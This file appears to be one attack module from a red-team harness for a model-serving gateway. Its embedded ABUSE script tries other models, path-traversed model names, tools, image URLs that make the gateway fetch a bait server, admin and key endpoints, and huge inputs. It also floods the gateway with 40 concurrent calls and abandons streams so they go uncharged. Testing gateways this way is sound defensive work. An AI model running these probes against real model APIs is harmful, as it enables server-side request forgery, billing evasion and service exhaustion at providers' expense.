"""Attack 18: use the model's endpoint for what it is not for: another model, tools, a way out."""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.request import urlopen

from harness.redteam.attack import Attack, Outcome, watch
from harness.redteam.attempt import WEAKENED
from harness.redteam.bait import Bait
from harness.redteam.naive import naively
from harness.settings import Settings

QUESTION_TOKENS = 3000   # what one question may spend here
CALL_TOKENS = 400        # more than any call of the flood takes
AT_ONCE = 8              # calls that may be under way when the last token is spent
ABUSE = r'''
import http.client, socket, threading
HOST, PORT_OF_MODEL = os.environ["OPENAI_BASE_URL"].split("/")[2].split(":")
TEXT = "Passages: [1] The valve is red. " + "It is used often. " * 30 + "Question: Which colour?"
def call(path="/v1/chat/completions", content=TEXT, **extra):
    body = {"model": "reader", "messages": [{"role": "user", "content": content}], **extra}
    line = http.client.HTTPConnection(HOST, int(PORT_OF_MODEL), timeout=15)
    try:
        line.request("POST", path, json.dumps(body), {
            "Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
            "Content-Type": "application/json"})
        response = line.getresponse()
        response.read()
        return response.status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        line.close()
def leave():
    """Read the first piece of a stream, then hang up."""
    body = json.dumps({"model": "reader", "stream": True, "messages": [
        {"role": "user", "content": TEXT}]}).encode()
    with socket.create_connection((HOST, int(PORT_OF_MODEL)), timeout=15) as line:
        line.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer "
                     + os.environ["OPENAI_API_KEY"].encode() + b"\r\nContent-Type: application/"
                     b"json\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
        line.recv(64)
def answer(question):
    url = f"http://127.0.0.1:{PORT_OF_BAIT}/leak"
    image = [{"type": "text", "text": "what is there?"},
             {"type": "image_url", "image_url": {"url": url}}]
    told = {"left": 0}
    if question != "flood":
        leave()
        told = {
            "models": [call(model=name) for name in ("gpt-4o", "reader/../gpt-4o", "text-ada")],
            "tools": [call(tools=[{"type": "web_search"}]), call(functions=[{"name": "fetch"}])],
            "urls": [call(content=image), call(base_url=url, upstream=url, plugins=[{"url": url}])],
            "paths": [call(path) for path in ("/v1/responses", "/v1/files", "/v1/batches",
                                              "/v1/fine_tuning/jobs", "/admin", "/v1/keys")],
            "large": [call(content="x y " * 1000000)]}
    else:
        statuses = []
        flood = [threading.Thread(target=lambda: statuses.append(call())) for _ in range(40)]
        for thread in flood:
            thread.start()
        for thread in flood:
            thread.join()
        told["statuses"] = sorted(statuses)
    return json.dumps(told)
'''
CALLS_TWICE = r'''
import urllib.request
def answer(question):
    statuses = []
    for _ in range(2):
        request = urllib.request.Request(
            os.environ["OPENAI_BASE_URL"] + "/chat/completions", json.dumps({
                "model": "reader", "messages": [{"role": "user", "content":
                "Passages: [1] The valve is red. Question: Which colour?"}]}).encode(),
            {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"],
             "Content-Type": "application/json"})
        with urllib.request.urlopen(request, timeout=15) as response:
            json.load(response)
            statuses.append(response.status)
    return json.dumps(statuses)
'''
ASKED = ("abuse", "flood")


def _abuse(kind: str, settings: Settings) -> Outcome:
    with Bait() as bait:
        source = ABUSE.replace("PORT_OF_BAIT", str(bait.port))
        if kind == WEAKENED:
            with _naive_gateway() as (url, charged):
                told = naively(source, ASKED, {"OPENAI_BASE_URL": url, "OPENAI_API_KEY": "any"})
            said = [json.loads(text) for text in told["answers"]]
            left, spent, flagged = 1, sum(charged), False  # a stream that was left costs nothing
        else:
            seen = watch(kind, source, replace(settings, question_tokens=QUESTION_TOKENS), ASKED)
            if any(reply.text is None for reply in seen.replies):
                return Outcome(False, seen.text, True)
            said = [json.loads(reply.text or "") for reply in seen.replies]
            first = [call for call in seen.calls if call.question_id == "q-0" and call.stream]
            left = int(not first or first[0].prompt_tokens == 0)
            spent = sum(call.prompt_tokens + call.completion_tokens for call in seen.calls
                        if call.question_id == "q-1")
            flagged = seen.flagged
        arrived = sum(map(len, bait.heard))
    gained = [name for name in ("models", "tools", "paths", "large") if 200 in said[0][name]]
    gained += ["urls"] if arrived else []
    gained += ["an uncharged call"] if left else []
    gained += [f"{spent} tokens"] if spent > QUESTION_TOKENS + AT_ONCE * CALL_TOKENS else []
    return Outcome(bool(gained), f"gained {', '.join(gained) or 'nothing'}; flood of 40: "
                   f"{said[1]['statuses'].count(200)} answered, {spent} tokens charged", flagged)


@contextmanager
def _naive_gateway() -> Iterator[tuple[str, list[int]]]:
    """Answer anything, fetch what it names, charge only what was read to its end."""
    charged: list[int] = []

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_: Any) -> None:
            pass

        def do_POST(self) -> None:
            body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
            content = body["messages"][0]["content"]
            for part in content if isinstance(content, list) else ():
                if "image_url" in part:
                    with urlopen(part["image_url"]["url"], timeout=5) as response:
                        response.read()
            if body.get("stream"):
                self.wfile.write(b"HTTP/1.0 200 OK\r\n\r\ndata: {}\n\n")
                return
            charged.append(150)
            self.wfile.write(b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\n{}")

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/v1", charged
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def _calls(kind: str, settings: Settings) -> Outcome:
    seen = watch(kind, CALLS_TWICE, settings)
    return Outcome(seen.text != "[200, 200]", f"{seen.text}, {len(seen.calls)} calls", seen.flagged)


ATTACKS = (
    Attack(18, "the model's endpoint as a tunnel", "Inspect bridge", _abuse, twin=_calls),
)
